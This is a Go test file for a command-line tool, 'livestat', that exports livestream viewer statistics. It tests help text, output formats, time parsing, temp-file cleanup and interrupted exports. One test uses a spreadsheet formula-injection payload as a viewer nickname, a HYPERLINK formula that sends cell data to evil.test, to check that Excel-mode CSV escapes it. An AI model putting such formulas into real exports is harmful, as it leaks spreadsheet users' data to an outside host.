package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/livestat/livestat"
	"github.com/livestat/livestat/livestattest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"
)

// `livestat help CMD` and `livestat CMD --help` print the same help of
// that command on stdout, for every command.
func TestHelpOfEveryCommand(t *testing.T) {
	c := newCLI(t, nil)
	names := []string{"demo"}
	for _, cmd := range commands() {
		names = append(names, cmd.name)
	}
	for _, name := range names {
		help := c.run("help", name)
		require.Equal(t, 0, help.code, name)
		assert.Empty(t, help.stderr)
		assert.Contains(t, help.stdout, "livestat "+name, name)
		for _, flag := range []string{"--help", "-h"} {
			r := c.run(name, flag)
			assert.Equal(t, 0, r.code, name)
			assert.Equal(t, help.stdout, r.stdout, "%s %s", name, flag)
		}
	}
	r := c.run("help", "wecom-watch")
	assert.Contains(t, r.stdout, "--living-id ID")
	assert.Contains(t, r.stdout, "--format FORMAT")
	r = c.run("help", "nope")
	assert.Equal(t, 2, r.code)
	assert.Contains(t, r.stderr, `unknown command "nope"`)
	assert.Contains(t, c.run("help").stdout, "livestat help <command>")
}

func TestVersion(t *testing.T) {
	c := newCLI(t, nil)
	for _, arg := range []string{"version", "--version"} {
		r := c.run(arg)
		require.Equal(t, 0, r.code)
		assert.Regexp(t, `^livestat `+livestat.Version+` \(go1\.[^ ]+ \w+/\w+\)\n$`, r.stdout)
	}
}

// --format is case-insensitive; without it, the --out extension names the
// format.
func TestFormatFromTheOutExtension(t *testing.T) {
	srv := seeded(t, 2)
	c := newCLI(t, srv)
	c.stdoutTTY = true // the extension wins over the terminal's table
	dir := t.TempDir()
	for _, tc := range []struct {
		file  string
		flags []string
		check func(t *testing.T, b []byte)
	}{
		{"a.csv", nil, func(t *testing.T, b []byte) { assert.True(t, bytes.HasPrefix(b, []byte("kind,userid,")), "%s", b) }},
		{"a.CSV", nil, func(t *testing.T, b []byte) { assert.True(t, bytes.HasPrefix(b, []byte("kind,userid,")), "%s", b) }},
		{"a.json", nil, func(t *testing.T, b []byte) { assert.Len(t, jsonLines(t, string(b)), 3) }},
		{"a.jsonl", nil, func(t *testing.T, b []byte) { assert.Len(t, jsonLines(t, string(b)), 3) }},
		{"a.txt", nil, func(t *testing.T, b []byte) { assert.True(t, bytes.HasPrefix(b, []byte("KIND ")), "%s", b) }},
		{"a.xlsx", nil, func(t *testing.T, b []byte) { assert.True(t, bytes.HasPrefix(b, []byte("PK\x03\x04")), "a zip") }},
		{"a.data", nil, func(t *testing.T, b []byte) { assert.Len(t, jsonLines(t, string(b)), 3, "jsonl into a file") }},
		{"b.txt", []string{"--format", "CSV"}, func(t *testing.T, b []byte) { assert.True(t, bytes.HasPrefix(b, []byte("kind,userid,")), "%s", b) }},
		{"b.csv", []string{"--format", "Jsonl"}, func(t *testing.T, b []byte) { assert.Len(t, jsonLines(t, string(b)), 3) }},
	} {
		out := filepath.Join(dir, tc.file)
		r := c.run(append([]string{"wecom-watch", "--living-id", "L", "--out", out}, tc.flags...)...)
		require.Equal(t, 0, r.code, r.stderr)
		b, err := os.ReadFile(out)
		require.NoError(t, err)
		t.Run(tc.file+strings.Join(tc.flags, ""), func(t *testing.T) { tc.check(t, b) })
	}
}

func TestTimeFlags(t *testing.T) {
	local := func(y int, m time.Month, d, h, mi, s int) int64 {
		return time.Date(y, m, d, h, mi, s, 0, time.Local).Unix()
	}
	for _, tc := range []struct {
		in       string
		endOfDay bool
		want     int64
	}{
		{"1756684800", false, 1756684800},
		{"2026-09-01", false, local(2026, 9, 1, 0, 0, 0)},
		{"2026-09-01", true, local(2026, 9, 1, 23, 59, 59)},
		{"2026-09-01 08:30", true, local(2026, 9, 1, 8, 30, 0)},
		{"2026-09-01T08:30:15", false, local(2026, 9, 1, 8, 30, 15)},
		{"2026-09-01T08:00:00+08:00", false, 1788220800},
		{"2026-09-01T00:00:00Z", true, 1788220800}, // a time is not a date
	} {
		var got int64
		require.NoError(t, timeFlag{&got, tc.endOfDay}.Set(tc.in), tc.in)
		assert.Equal(t, tc.want, got, tc.in)
	}
	for _, bad := range []string{"", "yesterday", "2026-13-01", "-5", "1e9", "99999999999999999999"} {
		var got int64
		assert.Error(t, timeFlag{&got, false}.Set(bad), bad)
	}

	// The command sends the seconds the dates stand for.
	srv := nuoyunServer(t, nil)
	c := nuoyunCLI(t, srv)
	r := c.run("nuoyun-durations", "--user-space-id", "34043700", "--update-time-start", "2026-09-01T08:00:00+08:00", "--update-time-end", "1788307199")
	require.Equal(t, 0, r.code, r.stderr)
	req, ok := srv.LastRequest(livestat.EndpointNuoyunUserDurations)
	require.True(t, ok)
	assert.Contains(t, string(req.Body), `"update_time_start":1788220800`)
	assert.Contains(t, string(req.Body), `"update_time_end":1788307199`)
}

// "N rows written to FILE" ends a run to --out on a terminal, and only there.
func TestRowsWrittenOnATerminal(t *testing.T) {
	srv := seeded(t, 2)
	c := newCLI(t, srv)
	out := filepath.Join(t.TempDir(), "w.csv")
	r := c.run("wecom-watch", "--living-id", "L", "--out", out)
	require.Equal(t, 0, r.code)
	assert.Empty(t, r.stderr, "not a terminal")

	c.stderrTTY = true
	r = c.run("wecom-watch", "--living-id", "L", "--out", out)
	require.Equal(t, 0, r.code)
	assert.True(t, strings.HasSuffix(r.stderr, "\r\x1b[K3 rows written to "+out+"\n"), "%q", r.stderr)
	r = c.run("wecom-watch", "--living-id", "L")
	assert.NotContains(t, r.stderr, "written to", "stdout is no FILE")
}

// A run to --out FILE removes the temporary files that killed runs to the
// same FILE left, and nothing else.
func TestStaleTempFilesAreRemoved(t *testing.T) {
	srv := seeded(t, 2)
	c := newCLI(t, srv)
	dir := t.TempDir()
	out := filepath.Join(dir, "w.csv")
	old := time.Now().Add(-time.Hour)
	write := func(name string, mtime time.Time) {
		p := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(p, bytes.Repeat([]byte("partial,row\n"), 1000), 0o600))
		require.NoError(t, os.Chtimes(p, mtime, mtime))
	}
	write(".w.csv.2964153077.tmp", old)               // killed: removed
	write(".w.csv.1.tmp", old)                        // killed: removed
	write(".w.csv.77.tmp", time.Now().Add(time.Hour)) // a run that started after this one
	write(".w.csv.abc.tmp", old)                      // not a name livestat makes
	write(".w.csv.1.tmp.bak", old)
	write("w.csv.1.tmp", old)
	write(".x.csv.1.tmp", old) // another FILE's
	require.NoError(t, os.Mkdir(filepath.Join(dir, ".w.csv.5.tmp"), 0o700))
	require.NoError(t, os.Symlink(filepath.Join(dir, "w.csv.1.tmp"), filepath.Join(dir, ".w.csv.6.tmp")))

	r := c.run("wecom-watch", "--living-id", "L", "--out", out)
	require.Equal(t, 0, r.code, r.stderr)
	assertOnlyFiles(t, dir, "w.csv", ".w.csv.77.tmp", ".w.csv.abc.tmp", ".w.csv.1.tmp.bak", "w.csv.1.tmp", ".x.csv.1.tmp", ".w.csv.5.tmp", ".w.csv.6.tmp")
}

// CSV for Excel: a BOM, and nicknames that Excel would run as formulas
// made text; numbers keep their values.
func TestExcelCSV(t *testing.T) {
	nicks := []string{`=HYPERLINK("http://evil.test/?"&A1,"click")`, "+86 138", "-1+1", "@SUM(A1)", "\t=1", "王小明", "a=b"}
	var ws []livestat.SchoolWatcher
	for i, n := range nicks {
		ws = append(ws, livestat.SchoolWatcher{Kind: livestat.KindVisitor, Nickname: n, WatchTime: livestat.Seconds(60 + i)})
	}
	srv := newServer(t, livestattest.Options{School: map[string]livestattest.School{"S": {Watchers: ws}}})
	c := newCLI(t, srv)
	dir := t.TempDir()

	plain := filepath.Join(dir, "plain.csv")
	require.Equal(t, 0, c.run("wecom-school-watch", "--living-id", "S", "--out", plain).code)
	b, err := os.ReadFile(plain)
	require.NoError(t, err)
	assert.False(t, bytes.HasPrefix(b, []byte("\uFEFF")), "no BOM without --excel")
	assert.Contains(t, string(b), "\n"+"visitor,,,"+`"=HYPERLINK(`, "without --excel values are as the API sent them")

	excel := filepath.Join(dir, "excel.csv")
	r := c.run("wecom-school-watch", "--living-id", "S", "--excel", "--out", excel)
	require.Equal(t, 0, r.code, r.stderr)
	b, err = os.ReadFile(excel)
	require.NoError(t, err)
	require.True(t, bytes.HasPrefix(b, []byte("\uFEFF")), "a UTF-8 BOM")
	recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, len(nicks)+1)
	assert.Equal(t, []string{"kind", "student_userid", "parent_userid", "nickname", "partyids", "watch_time", "enter_time", "leave_time", "is_comment"}, recs[0])
	want := []string{`'=HYPERLINK("http://evil.test/?"&A1,"click")`, "'+86 138", "'-1+1", "'@SUM(A1)", "'\t=1", "王小明", "a=b"}
	for i, rec := range recs[1:] {
		assert.Equal(t, want[i], rec[3])
		assert.Equal(t, fmt.Sprint(60+i), rec[5], "numbers are numbers")
	}
}

// An interrupted export (the context a signal ends) leaves --out FILE as
// it was, removes its temporary file and leaves no goroutine behind.
func TestInterruptedExportLeavesNothing(t *testing.T) {
	srv := livestattest.New(livestattest.Options{PageSize: 2, Living: map[string][]livestat.LivingViewer{"L": livestattest.GenerateViewers(10, 1)}})
	defer srv.Close()
	defer goleak.VerifyNone(t, goleak.IgnoreCurrent())
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	second := make(chan struct{}, 1)
	srv.Fail(livestattest.Fault{Endpoint: livestat.EndpointWatchStat, Delay: time.Minute, When: secondPage(second)})
	dir := t.TempDir()
	out := filepath.Join(dir, "w.csv")
	require.NoError(t, os.WriteFile(out, []byte("before\n"), 0o644))
	env := map[string]string{"WECOM_CORP_ID": srv.CorpID(), "WECOM_CORP_SECRET": srv.CorpSecret(), "WECOM_BASE_URL": srv.URL()}
	done := make(chan int)
	var stderr bytes.Buffer
	go func() {
		done <- run(ctx, []string{"wecom-watch", "--living-id", "L", "--out", out}, stdio{
			stdout: &bytes.Buffer{}, stderr: &stderr, getenv: func(k string) string { return env[k] },
		})
	}()
	// The second page is asked for: the first one's rows are in the
	// temporary file.
	<-second
	tmp, _ := filepath.Glob(filepath.Join(dir, ".w.csv.*.tmp"))
	require.Len(t, tmp, 1)
	cancel()
	assert.Equal(t, exitFailure, <-done)
	assert.Contains(t, stderr.String(), "interrupted; "+out+" was not written")
	b, err := os.ReadFile(out)
	require.NoError(t, err)
	assert.Equal(t, "before\n", string(b))
	assertOnlyFiles(t, dir, "w.csv")
	srv.Close() // its connections, and with them the client's
}

// secondPage is a Fault.When for the request of a second page of
// get_watch_stat: it tells ch that it came.
func secondPage(ch chan<- struct{}) func(livestattest.Request) bool {
	return func(r livestattest.Request) bool {
		if !bytes.Contains(r.Body, []byte(`"next_key":"`)) || bytes.Contains(r.Body, []byte(`"next_key":""`)) {
			return false
		}
		select {
		case ch <- struct{}{}:
		default:
		}
		return true
	}
}
